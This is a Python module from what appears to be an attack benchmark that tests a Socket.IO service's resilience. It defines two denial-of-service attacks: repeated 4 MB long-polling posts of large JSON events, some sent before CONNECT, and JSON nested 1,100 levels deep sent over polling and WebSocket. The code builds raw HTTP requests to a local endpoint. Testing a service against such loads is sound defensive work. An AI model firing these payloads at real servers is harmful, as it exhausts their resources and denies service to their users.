"""Socket.IO packets that are expensive for the parser or the log (items 7 and 8)."""

from __future__ import annotations

import json
from itertools import count

from benchmarks.attack.attacks.attack import Attack, Outcome
from benchmarks.attack.attacks.connections import polling_sid
from benchmarks.attack.attacks.loops import discard_responses, repeat
from benchmarks.attack.endpoint import Deadline, Endpoint
from benchmarks.attack.wire import Link, packet

SEPARATOR = b"\x1e"
"""Separator of packets in one request, by Engine.IO's protocol 4."""
BIG_EVENT = b'42["configure",' + json.dumps([[1, 2]] * 6500).encode() + b"]"
BIG_BODY = SEPARATOR.join([BIG_EVENT] * 80)
NESTED = b"4" + b"[" * 1100


def big_posts(endpoint: Endpoint) -> Outcome:
    """Posts 4 MB with 80 events of 52 KB of JSON, four at once; half of them before CONNECT."""
    rounds = count()

    def attack(_: Deadline) -> None:
        sid = polling_sid(endpoint)
        if next(rounds) % 2:
            post(endpoint, sid, b"40" + json.dumps({"token": endpoint.token}).encode())
        post(endpoint, sid, BIG_BODY)

    return Outcome({"rounds": repeat(attack, Deadline.after(endpoint.seconds), 4, threads=4)})


def nested(endpoint: Endpoint) -> Outcome:
    """Sends JSON that is nested 1,100 deep by long polling and by WebSocket."""
    rounds = count()

    def attack(_: Deadline) -> None:
        if next(rounds) % 2:
            post(endpoint, polling_sid(endpoint), NESTED)
        else:
            with Link(endpoint) as link:
                link.wire.sendall(packet(NESTED))
                discard_responses(link.wire, 0.2)

    return Outcome({"rounds": repeat(attack, Deadline.after(endpoint.seconds), 25, threads=4)})


def post(endpoint: Endpoint, sid: str, body: bytes) -> bytes:
    """Posts to a session by long polling and returns the start of the response.

    Raises:
        OSError: The service closed the connection without a response.
    """
    head = (
        f"POST /socket.io/?EIO=4&transport=polling&sid={sid} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        f"Content-Type: text/plain\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    )
    with endpoint.dial() as wire:
        wire.sendall(head.encode() + body)
        return wire.recv(4096)


ATTACKS = (
    Attack("big-posts", "posts of 4 MB with 80 events, four at once", big_posts),
    Attack("nested-json", "JSON nested 1,100 deep, 100 a second", nested),
)
